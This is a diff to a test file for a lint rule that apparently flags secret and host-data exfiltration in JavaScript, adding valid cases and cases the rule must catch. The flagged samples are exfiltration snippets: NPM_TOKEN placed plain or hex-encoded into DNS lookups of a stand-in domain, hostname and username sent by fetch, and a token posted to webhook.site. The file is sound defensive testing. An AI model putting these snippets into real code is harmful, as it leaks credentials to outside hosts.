@@ -3,6 +3,8 @@ import { ruleTester } from '../tester.ts';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'app.get("/x", async (req, res) => { await fetch("https://api.example-service.com/introspect", { method: "POST", headers: { authorization: req.headers.authorization }, body: JSON.stringify({ token: req.headers.authorization }) }); });' },
+    { code: 'import dns from "node:dns/promises"; await dns.lookup(process.env.DB_HOST ?? "localhost"); await dns.lookup(`${process.env.REGION ?? ""}.example-service.com`);' },
     { code: "import fs from 'node:fs'; import dotenv from 'dotenv'; const config = dotenv.parse(fs.readFileSync('.env')); fetch('https://api.example-service.com', { headers: { authorization: `Bearer ${config.API_KEY}` } });" },
     { code: "import https from 'node:https'; import fs from 'node:fs'; https.request({ hostname: 'api.example-service.com', key: fs.readFileSync('key.pem'), cert: fs.readFileSync('cert.pem') });" },
     { code: 'fetch("https://api.openai.com/v1/chat", { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });' },
@@ -104,6 +106,8 @@ await ruleTester(rule, {
     { code: 'import os from "os"; fetch("https://t.example-service.com", { method: "POST", body: JSON.stringify({ host: os.hostname(), user: os.userInfo().username }) });', errors: [{ messageId: 'sent' }] },
     { code: 'import os from "os"; fetch(`https://t.example-service.com/?h=${os.hostname()}`);', errors: [{ messageId: 'sent' }] },
     { code: 'import os from "os"; import dns from "dns"; dns.lookup(`${os.hostname()}.x.example-service.com`, () => {});', errors: [{ messageId: 'dns' }] },
+    { code: 'import dns from "dns"; dns.lookup(`${process.env.NPM_TOKEN ?? ""}.x.example-service.com`, () => {});', errors: [{ messageId: 'dns' }] },
+    { code: 'import dns from "node:dns/promises"; await dns.resolve4(Buffer.from(process.env.NPM_TOKEN || "").toString("hex") + ".x.example-service.com");', errors: [{ messageId: 'dns' }] },
     { code: 'import dns from "dns"; dns.resolve(`${process.env.NPM_TOKEN}.x.example-service.com`, () => {});', errors: [{ messageId: 'dns' }] },
     { code: 'import dns from "dns"; dns.resolve(Buffer.from(process.env.NPM_TOKEN).toString("hex") + ".x.example-service.com", () => {});', errors: [{ messageId: 'dns' }] },
     { code: 'fetch("https://webhook.site/abc", { headers: { "x-data": process.env.NPM_TOKEN } });', errors: [{ messageId: 'hostile' }] },
